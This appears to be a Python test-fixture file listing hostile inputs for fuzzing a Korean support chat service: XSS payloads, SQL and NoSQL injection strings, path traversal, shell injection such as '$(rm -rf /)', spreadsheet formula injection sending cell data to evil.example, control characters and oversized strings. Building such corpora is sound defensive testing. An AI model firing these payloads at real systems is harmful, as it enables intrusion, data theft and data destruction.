"""A corpus of hostile inputs: what an attacker (or a broken client) sends instead of text."""

from __future__ import annotations

XSS = [
    "<script>alert(1)</script>",
    "<script>window.__pwned=1</script>",
    "<img src=x onerror=alert(1)>",
    '<img src=x onerror="window.__pwned=1">',
    '"><img src=x onerror=window.__pwned=1>',
    "'><svg onload=window.__pwned=1>",
    "<svg/onload=alert(1)>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
    "<a href=javascript:alert(1)>click</a>",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "[click](javascript:alert(1))",
    "![x](x onerror=alert(1))",
    "<details open ontoggle=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<style>@import 'http://evil.example/x.css';</style>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<form action=http://evil.example><input name=x></form>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<base href=http://evil.example/>",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "{{7*7}}",
    "#{7*7}",
    "<%= 7*7 %>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<div style=\"background:url(javascript:alert(1))\">",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
]

SQL = [
    "' OR '1'='1",
    "' OR 1=1 --",
    "'; DROP TABLE chat; --",
    "\"; DROP TABLE message; --",
    "1; DELETE FROM agent",
    "' UNION SELECT token_hash FROM authsession --",
    "admin'--",
    "' OR ''='",
    "%",
    "_",
    "%%%%",
    "\\",
    "\\'",
    "' AND SLEEP(5) --",
    "'; SELECT pg_sleep(5); --",
    "1' ORDER BY 1--+",
    "\" OR \"\"=\"",
    "‘ OR ‘1’=‘1",
    "') OR ('1'='1",
    "1 OR 1=1",
    "$where: '1 == 1'",
    "{\"$gt\": \"\"}",
    "*",
    ")(cn=*))(|(cn=*",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "file:///etc/passwd",
    "$(rm -rf /)",
    "`id`",
    "; ls -la",
]

FORMULAS = [
    "=1+1",
    "=HYPERLINK(\"http://evil.example\",\"click\")",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "=IMPORTXML(CONCAT(\"http://evil.example/?\",A1),\"//a\")",
    "=DDE(\"cmd\";\"/C calc\";\"!A0\")",
]

CONTROL = [
    "\x00",
    "a\x00b",
    "NUL\x00 in the middle",
    "\x1b[31mred\x1b[0m",
    "\x07bell",
    "back\x08space",
    "\x7fdel",
    "\x85next line",
    "\u202eevil\u202c",
    "파일\u202egpj.exe",
    "\u2066isolated\u2069",
    "\u2067rtl\u2069",
    "\u2068first\u2069",
    "\u202a\u202b\u202c\u202d\u202e",
    "line\r\nbreak",
    "only\rcarriage",
    "tab\tkept",
    "new\nline kept",
    "\u200bzero\u200bwidth",
    "\ufeffbom",
    "\ud7ff\ue000",
    "🙂" * 50,
    "한글" * 30,
    "ᄒᆞᆫ글 옛한글",
    "가\u0301",
    "   ",
    "\n\n\n",
    "",
]

HUGE = [
    "x" * 2001,
    "가" * 2001,
    "a" * 10_001,
    "가" * 100_000,
    "x" * 1_000_000,
    "🙂" * 5000,
    "<script>" * 10_000,
]

WRONG_TYPES = [None, 0, 1, -1, 1.5, True, False, [], {}, ["a"], {"a": 1}, {"$gt": ""}, [None], 10**30, -(10**30), 2**63, 2**64]

IDS = [0, -1, 1, 10**30, -(10**30), 2**63, 2**63 - 1, 2**64, "1", "0", "-1", "1e9", "0x10", "１２", "²", "1.0", "", " 1 ",
       "9" * 40, None, True, [], {}, 1.5]

# The same, inside ordinary Korean support text (what a filter that only looks at the start misses).
MIXED = [f"환불 요청합니다 {x}" for x in XSS[:25]] + [f"{x} 배송 언제 와요?" for x in SQL[:15]] + [
    f"주문번호 {x}" for x in FORMULAS
]

TEXTS = XSS + SQL + FORMULAS + CONTROL + HUGE + MIXED
EVERYTHING = TEXTS + WRONG_TYPES + IDS
